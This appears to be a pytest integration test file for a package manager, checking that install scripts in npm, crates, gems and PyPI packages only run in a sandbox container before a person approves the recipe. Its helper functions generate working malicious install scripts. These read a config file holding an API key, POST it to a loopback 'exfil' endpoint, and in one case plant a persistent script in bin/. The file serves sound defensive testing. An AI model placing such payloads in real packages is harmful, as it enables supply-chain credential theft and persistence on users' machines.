"""A package's own code never runs on the host before a person approved its recipe,
and what an approved install's scripts write outside the tool's directory does not
outlive it (issue 33, items 1 and 9).

Each attack is a real package on a fake registry (loopback) whose install script (npm
``postinstall``, a crate's ``build.rs``, a gem's ``extconf.rb``) writes a marker file
at a host path, reads ``$TSUKU_HOME/config.toml`` (where ``config set
secrets.anthropic_api_key`` keeps the key) and sends it to an "exfil" server on
loopback. ``create --from`` validates the recipe before anything is approved: the
scripts run in the validation container (no network, uid 65534, only the staged files
mounted), so on the host there is no marker and the exfil server hears nothing.
"""

from __future__ import annotations

import dataclasses
import json
import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import Tsuku
from tests.fakes.ecosystems import FakeEcosystems
from tests.integration.install.conftest import installed, needs_cargo, needs_gem, tree
from tests.integration.install.test_ecosystem_builders import needs_npm
from tests.integration.install.test_ecosystem_installs import run
from tests.integration.install.test_recipe_errors import local_recipe
from tsukud.testing.crates import FakeCratesIo, crate
from tsukud.testing.gems import FakeRubyGems, build_gem
from tsukud.testing.http import FakeHTTPServer, RecordedRequest, Reply
from tsukud.testing.packages import npm_tarball, sdist, wheel

SECRET = "sk-ant-api03-exfil-canary-0123456789abcdef"


@pytest.fixture
def exfil() -> Iterator[FakeHTTPServer]:
    """Where a malicious install script sends what it stole (loopback)."""

    def answer(_request: RecordedRequest) -> Reply:
        return Reply(200, body=b"thanks")

    with FakeHTTPServer(fallback=answer, role="exfil") as server:
        yield server


def with_secret(t: Tsuku) -> Path:
    cp = t.ctl("config", "set", "secrets.anthropic_api_key", input=SECRET)
    assert cp.returncode == 0, cp.stderr
    config = t.home / "config.toml"
    assert SECRET in config.read_text()
    return config


def stolen(server: FakeHTTPServer) -> list[bytes]:
    return [r.body for r in server.requests]


def npm_thief(marker: Path, config: Path, port: int) -> str:
    """A postinstall that marks the host, reads the config and posts it."""
    return (
        "const fs = require('fs'); const http = require('http');\n"
        f"try {{ fs.writeFileSync({json.dumps(str(marker))}, 'postinstall ran'); }} "
        "catch (e) {}\n"
        "let data = 'nothing';\n"
        f"try {{ data = fs.readFileSync({json.dumps(str(config))}, 'utf8'); }} catch (e) {{}}\n"
        f"const req = http.request({{host: '127.0.0.1', port: {port}, path: '/steal', "
        "method: 'POST'}, (res) => res.resume());\n"
        "req.on('error', () => {}); req.end(data);\n"
    )


@needs_npm
def test_an_npm_postinstall_does_not_run_on_the_host_before_approval(
    eco_inst: Tsuku, eco: FakeEcosystems, exfil: FakeHTTPServer, tmp_path: Path
) -> None:
    """``create fmtq --from npm:fmtq`` (no --yes: only a preview) fetches the package
    with its scripts off; the postinstall runs in the container, where neither the
    marker's directory nor the config nor the network exists."""
    t = eco_inst
    config = with_secret(t)
    marker = tmp_path / "postinstall-ran"
    eco.publish_npm(
        npm_tarball(
            "fmtq",
            "0.0.5",
            {"fmtq": "fmtq 0.0.5"},
            scripts={"postinstall": "node steal.js"},
            files={"steal.js": npm_thief(marker, config, exfil.port)},
        )
    )
    cp = t.ctl("create", "fmtq", "--from", "npm:fmtq", "--json")
    assert not marker.exists(), "the postinstall ran on the host"
    assert stolen(exfil) == [], "the postinstall reached the network"
    assert cp.returncode == 0, cp.stderr
    res = json.loads(cp.stdout)
    assert res["validation"]["status"] == "passed", res["validation"]
    assert "container" in res["validation"]["image"]
    assert not (t.home / "recipes" / "fmtq.toml").exists()  # nothing approved, nothing written
    assert not (t.home / "validate").exists() or not any((t.home / "validate").iterdir())


@pytest.mark.slow  # a real registry client + container; the npm postinstall test stays
@needs_npm
def test_a_legitimate_postinstall_still_installs_with_a_yes_and_works(
    eco_inst: Tsuku, eco: FakeEcosystems
) -> None:
    """After the person's yes the install runs its scripts (confined to the tool's
    directory), so a tool that builds something in ``postinstall`` works."""
    t = eco_inst
    eco.publish_npm(
        npm_tarball(
            "legit",
            "2.0.0",
            {"legit": "legit 2.0.0"},
            scripts={"postinstall": "node build.js"},
            files={"build.js": "require('fs').writeFileSync('built.txt', 'ok');\n"},
        )
    )
    cp = t.ctl("create", "legit", "--from", "npm:legit", "--yes")
    assert cp.returncode == 0, cp.stderr
    cp = t.ctl("install", "legit")
    assert cp.returncode == 0, cp.stderr
    row = installed(t)["legit"]
    tool = Path(row["install_dir"])
    assert (tool / "node_modules" / "legit" / "built.txt").read_text() == "ok"
    assert run(t.home / "bin" / "legit", "--version").split() == ["legit", "2.0.0", "--version"]
    # Given back to the daemon's user (the test's) after running as nobody.
    assert (tool / "node_modules" / "legit" / "built.txt").stat().st_uid == os.getuid()


@pytest.mark.slow  # a real registry client + container; the npm postinstall test stays
@needs_cargo
def test_a_crates_build_rs_does_not_run_on_the_host_before_approval(
    native_inst: Tsuku, crates: FakeCratesIo, tmp_path: Path
) -> None:
    t = native_inst
    marker = tmp_path / "build-rs-ran"
    build_rs = f'fn main() {{ let _ = std::fs::write({json.dumps(str(marker))}, "ran"); }}\n'
    crates.publish(crate("fmtr", "0.1.0", {"fmtr": "fmtr 0.1.0"}, build_rs=build_rs))
    cp = t.ctl("create", "fmtr", "--from", "crates:fmtr", "--json")
    assert not marker.exists(), "build.rs ran on the host"
    assert cp.returncode == 0, cp.stderr
    assert json.loads(cp.stdout)["validation"]["status"] == "passed", cp.stdout


def gem_thief(marker: Path, config: Path, port: int, persist: Path | None = None) -> str:
    """An extconf.rb that marks the host, posts the config, maybe leaves a command in
    ``$TSUKU_HOME/bin``, then writes the Makefile gem install needs."""
    persist_line = ""
    if persist is not None:
        persist_line = (
            f'begin; File.write({json.dumps(str(persist))}, "#!/bin/sh\\necho pwned\\n"); '
            f"File.chmod(0755, {json.dumps(str(persist))}); rescue StandardError; end\n"
        )
    return (
        "require 'net/http'\n"
        f"begin; File.write({json.dumps(str(marker))}, 'extconf ran'); rescue StandardError; end\n"
        "data = 'nothing'\n"
        f"begin; data = File.read({json.dumps(str(config))}); rescue StandardError; end\n"
        f"begin; Net::HTTP.post(URI('http://127.0.0.1:{port}/steal'), data); "
        "rescue StandardError, Timeout::Error; end\n"
        f"{persist_line}"
        'File.write("Makefile", "all:\\n\\ninstall:\\n\\nclean:\\n")\n'
    )


@pytest.mark.slow  # a real registry client + container; the npm postinstall test stays
@needs_gem
def test_a_gems_extconf_does_not_run_on_the_host_before_approval(
    native_inst: Tsuku, gems: FakeRubyGems, exfil: FakeHTTPServer, tmp_path: Path
) -> None:
    t = native_inst
    config = with_secret(t)
    marker = tmp_path / "extconf-ran"
    gems.publish(
        build_gem(
            tmp_path,
            "fmtg",
            "1.0.0",
            {"fmtg": "fmtg 1.0.0"},
            extconf=gem_thief(marker, config, exfil.port),
        )
    )
    cp = t.ctl("create", "fmtg", "--from", "rubygems:fmtg", "--json")
    assert not marker.exists(), "extconf.rb ran on the host"
    assert stolen(exfil) == []
    assert cp.returncode == 0, cp.stderr
    assert json.loads(cp.stdout)["validation"]["status"] == "passed", cp.stdout


@needs_gem
def test_an_install_scripts_files_outside_the_tool_do_not_outlive_it(
    native_inst: Tsuku, gems: FakeRubyGems, exfil: FakeHTTPServer, tmp_path: Path
) -> None:
    """An approved gem whose extconf.rb writes ``$TSUKU_HOME/bin/rt3-persist`` (first on
    PATH with the hook) and reads the config: the install is confined to the tool's
    directory, so neither outlives the install nor the remove, and the key stays."""
    t = native_inst
    config = with_secret(t)
    persist = t.home / "bin" / "rt3-persist"
    (t.home / "bin").mkdir(exist_ok=True)
    gems.publish(
        build_gem(
            tmp_path,
            "rt3",
            "1.0.0",
            {"rt3": "rt3 1.0.0"},
            extconf=gem_thief(tmp_path / "unused", config, exfil.port, persist),
        )
    )
    local_recipe(
        t,
        "rt3",
        '[metadata]\nname = "rt3"\ndescription = "rt3"\n\n'
        '[[steps]]\naction = "gem_install"\ngem = "rt3"\nexecutables = ["rt3"]\n\n'
        '[verify]\ncommand = "rt3 --version"\npattern = "{version}"\n',
    )
    cp = t.ctl("install", "rt3")
    assert cp.returncode == 0, cp.stderr
    assert not persist.exists(), "the install script left a command in bin/"
    assert SECRET.encode() not in b"".join(stolen(exfil))
    assert run(t.home / "bin" / "rt3", "--version").split()[:2] == ["rt3", "1.0.0"]
    cp = t.ctl("remove", "rt3")
    assert cp.returncode == 0, cp.stderr
    assert not persist.exists()
    assert tree(t.home) == []


@pytest.mark.slow  # a real registry client + container; the npm postinstall test stays
def test_a_pypi_build_backend_does_not_run_on_the_host_before_approval(
    eco_inst: Tsuku, eco: FakeEcosystems, exfil: FakeHTTPServer, tmp_path: Path
) -> None:
    """A project whose only wheel is Windows-only: the builder does not read its
    commands from that wheel (it is not what this host installs) but from the source
    package's pyproject.toml, as text; pip builds the source package (its in-tree
    build backend runs) only in the container, and the result is never "passed … in
    host prefix"."""
    t = eco_inst
    config = with_secret(t)
    marker = tmp_path / "backend-ran"
    prelude = (
        "import urllib.request\n"
        f"try:\n    open({str(marker)!r}, 'w').write('backend ran')\nexcept OSError:\n    pass\n"
        f"try:\n    data = open({str(config)!r}, 'rb').read()\nexcept OSError:\n    data = b''\n"
        "try:\n"
        f"    urllib.request.urlopen('http://127.0.0.1:{exfil.port}/steal', data, timeout=5)\n"
        "except Exception:\n    pass\n"
    )
    win = wheel("fmtp", "1.0", {"fmtp": "fmtp 1.0"})
    eco.publish_wheel(
        dataclasses.replace(win, file_name=win.file_name.replace("-any.whl", "-win_amd64.whl"))
    )
    eco.publish_sdist(sdist("fmtp", "1.0", {"fmtp": "fmtp 1.0"}, prelude=prelude))
    cp = t.ctl("create", "fmtp", "--from", "pypi:fmtp", "--json")
    assert not marker.exists(), "the build backend ran on the host"
    assert stolen(exfil) == []
    assert cp.returncode == 0, cp.stderr
    res = json.loads(cp.stdout)
    assert res["validation"]["status"] == "passed", res["validation"]
    assert "host prefix" not in res["validation"]["image"]
    assert "container" in res["validation"]["image"]
    assert "fmtp" in res["recipe"] and "-win_amd64.whl" not in " ".join(eco.paths())
